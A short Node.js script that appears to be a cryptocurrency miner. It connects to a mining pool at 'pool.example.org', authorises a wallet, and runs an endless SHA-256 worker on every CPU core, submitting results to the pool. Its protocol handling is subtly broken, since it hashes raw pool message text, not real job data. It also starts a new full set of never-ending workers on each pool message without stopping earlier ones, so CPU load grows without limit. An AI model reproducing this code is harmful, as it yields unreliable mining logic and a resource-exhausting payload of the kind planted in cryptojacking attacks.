const { Worker, isMainThread, workerData, parentPort } = require('worker_threads');
const net = require('net');
const os = require('os');
const { createHash } = require('crypto');

if (isMainThread) {
  const pool = net.connect(3333, 'pool.example.org', () =>
    pool.write(JSON.stringify({ id: 1, method: 'mining.authorize', params: ['44wallet.w1', 'x'] }) + '\n'));
  pool.on('data', (d) => {
    for (const cpu of os.cpus()) {
      const w = new Worker(__filename, { workerData: d.toString() });
      w.on('message', (n) => pool.write(JSON.stringify({ id: 4, method: 'mining.submit', params: ['44wallet', n] }) + '\n'));
    }
  });
} else {
  for (let n = 0; ; n++) {
    const h = createHash('sha256').update(workerData + n).digest('hex');
    if (h.startsWith('00000')) parentPort.postMessage(n);
  }
}
